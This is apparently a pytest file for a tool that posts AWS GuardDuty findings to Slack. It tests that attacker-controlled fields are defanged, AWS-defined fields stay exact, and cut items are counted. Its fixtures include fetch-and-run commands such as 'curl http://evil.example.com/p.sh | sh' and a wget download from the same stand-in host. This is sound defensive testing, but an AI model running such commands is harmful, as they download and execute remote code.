"""Detail values by trust: what the attacker side controls and Slack could link (user agents,
command lines, request URIs, requested domains) is defanged; what AWS defines stays exact. And
nothing is left out silently: items and sections cut say "+N more" with the right N."""

from __future__ import annotations

import re
from typing import Any

from app.core.finding import parse_event
from app.render.body import section_block
from app.render.details import MAX_ITEMS, MAX_SECTIONS, actor_sections, resource_sections
from app.render.message import render_finding
from app.render.text import display
from tests.conftest import load_event
from tests.slack_checks import assert_valid_payload, text_objects

USER_AGENT = "aws-cli/2.0 https://evil.example.com/x"
COMMAND_LINE = "curl http://evil.example.com/p.sh | sh"


def _event(service: dict[str, Any]) -> dict[str, Any]:
    event = load_event("ec2-ssh-brute-force.json")
    return {**event, "detail": {**event["detail"], "service": service}}


def _shown(payload: dict[str, Any]) -> list[str]:
    """What a reader sees in each text object of the payload."""
    return [display(o) for o in text_objects(payload)]


def _hostile_service() -> dict[str, Any]:
    return {
        "serviceName": "guardduty",
        "action": {
            "actionType": "AWS_API_CALL",
            "awsApiCallAction": {
                "api": "GetObject",
                "serviceName": "s3.amazonaws.com",
                "callerType": "Remote IP",
                "userAgent": USER_AGENT,
            },
        },
        "runtimeDetails": {
            "process": {
                "name": "libc.so.6",
                "executablePath": "/usr/lib/libc.so.6",
                "commandLine": COMMAND_LINE,
                "user": "john.doe",
            }
        },
    }


def test_user_agent_and_command_line_are_defanged_identifiers_exact() -> None:
    payload = render_finding(parse_event(_event(_hostile_service())))
    assert_valid_payload(payload)
    shown = "\n".join(_shown(payload))
    assert "aws-cli/2.0 hxxps[://]evil[.]example[.]com/x" in shown
    assert "curl hxxp[://]evil[.]example[.]com/p[.]sh | sh" in shown
    assert "evil.example.com" not in shown and "evil.example.com" not in str(payload)
    for exact in ("s3.amazonaws.com", "/usr/lib/libc.so.6", "john.doe", "GetObject"):
        assert exact in shown, exact
    for wrong in ("s3[.]amazonaws", "libc[.]so", "john[.]doe"):
        assert wrong not in shown, wrong


def test_the_builders_mark_exactly_the_attacker_side() -> None:
    service = _hostile_service()
    service["action"] = {
        **service["action"],
        "dnsRequestAction": {"domain": "evil.example.com", "protocol": "UDP"},
        "kubernetesApiCallAction": {
            "verb": "get",
            "requestUri": "/api/v1/namespaces/default/pods?x=http://evil.example.com",
            "userAgent": "kubectl/v1.29 http://evil.example.com",
            "namespace": "default",
        },
    }
    service["runtimeDetails"]["context"] = {
        "commandLineExample": "wget http://evil.example.com/a",
        "filePath": "/etc/ld.so.preload",
    }
    service["additionalInfo"] = {"userAgent": {"fullUserAgent": "python-requests/2.31"}}
    sections = actor_sections(parse_event(_event(service)).detail, limit=None)
    marks = {(i.label, i.untrusted) for s in sections for i in s.items}
    for label in ("User agent", "Command line", "Request URI", "Domain", "Command line example"):
        assert (label, True) in marks, label
    for label in ("API", "Service", "Executable", "User", "Namespace", "File", "Verb"):
        assert (label, False) in marks and (label, True) not in marks, label


def _context_section(members: dict[str, str]) -> dict[str, Any]:
    service = {
        "serviceName": "guardduty",
        "runtimeDetails": {"process": {"name": "sh"}, "context": members},
    }
    finding = parse_event(_event(service))
    (context,) = [s for s in actor_sections(finding.detail) if s.title == "Runtime context"]
    block = section_block(context, ())
    assert block is not None
    return block


def _more(text: str) -> int:
    found = re.search(r"\+(\d+) more fields?: open the finding in the console", text)
    assert found, text
    return int(found[1])


def test_a_runtime_context_of_15_members_counts_every_one_left_out() -> None:
    keys = [
        "toolName", "toolCategory", "threatFilePath", "scriptPath", "moduleName",
        "moduleFilePath", "libraryPath", "filePath", "fileOperation", "runcBinaryPath",
        "releaseAgentPath", "mountSource", "mountTarget", "fileSystemType", "socketPath",
    ]  # fmt: skip
    assert len(keys) == 15 > MAX_ITEMS
    text = display(_context_section({k: f"/v/{k}" for k in keys})["text"])
    shown = [line for line in text.splitlines()[1:] if "/v/" in line]
    assert len(shown) + _more(text) == 15  # Socket is either shown or counted, never lost
    assert _more(text) == 15 - len(shown) == 7


def test_a_generic_more_item_is_counted_not_shown_as_a_field() -> None:
    members = {f"unknownKey{n:02}": f"value-{n}" for n in range(30)}
    text = display(_context_section(members)["text"])
    shown = [line for line in text.splitlines()[1:] if "value-" in line]
    assert "More fields" not in text
    assert len(shown) + _more(text) == 30


def test_a_short_section_says_nothing_more() -> None:
    text = display(_context_section({"toolName": "xmrig", "filePath": "/tmp/x"})["text"])
    assert "more" not in text


def _crowded_service() -> dict[str, Any]:
    ip = {"ipAddressV4": "198.51.100.7"}
    return {
        "serviceName": "guardduty",
        "action": {
            "actionType": "AWS_API_CALL",
            "awsApiCallAction": {"api": "GetObject", "remoteIpDetails": ip},
            "dnsRequestAction": {"domain": "evil.example.com"},
            "networkConnectionAction": {"connectionDirection": "OUTBOUND", "remoteIpDetails": ip},
            "portProbeAction": {"portProbeDetails": [{"localPortDetails": {"port": 22}}]},
            "kubernetesApiCallAction": {"verb": "get", "requestUri": "/api"},
            "kubernetesPermissionCheckedDetails": {"verb": "create", "allowed": True},
            "rdsLoginAttemptAction": {"remoteIpDetails": ip},
        },
        "runtimeDetails": {"process": {"name": "sh"}, "context": {"toolName": "xmrig"}},
    }


def test_sections_that_do_not_fit_are_counted() -> None:
    finding = parse_event(_event(_crowded_service()))
    every = [
        *resource_sections(finding.detail, limit=None),
        *actor_sections(finding.detail, limit=None),
    ]
    assert len(actor_sections(finding.detail, limit=None)) > MAX_SECTIONS
    payload = render_finding(finding)
    assert_valid_payload(payload)
    titles = {s.title for s in every}
    shown = [
        b
        for b in payload["blocks"]
        if b["type"] == "section"
        and "text" in b
        and display(b["text"]).splitlines()[0].strip("*") in titles
    ]
    notes = [
        display(e)
        for b in payload["blocks"]
        if b["type"] == "context"
        for e in b["elements"]
        if "more detail section" in display(e)
    ]
    assert len(notes) == 1, notes
    found = re.fullmatch(
        r"\+(\d+) more detail sections?: open the finding in the console", notes[0]
    )
    assert found, notes
    assert int(found[1]) == len(every) - len(shown) > 0


def _threat_names(names: list[str]) -> Any:
    service = {
        "serviceName": "guardduty",
        "evidence": {
            "threatIntelligenceDetails": [{"threatListName": "CustomList", "threatNames": names}]
        },
    }
    sections = actor_sections(parse_event(_event(service)).detail)
    (intel,) = [s for s in sections if s.title == "Threat intelligence"]
    return {i.label: i for i in intel.items}


def test_threat_names_are_defanged_only_when_they_are_domains() -> None:
    assert _threat_names(["c2.evil.example.com"])["Threat names"].untrusted
    assert not _threat_names(["Trojan.Generic", "Ransomware"])["Threat names"].untrusted
    assert not _threat_names(["c2.evil.example.com"])["Threat lists"].untrusted
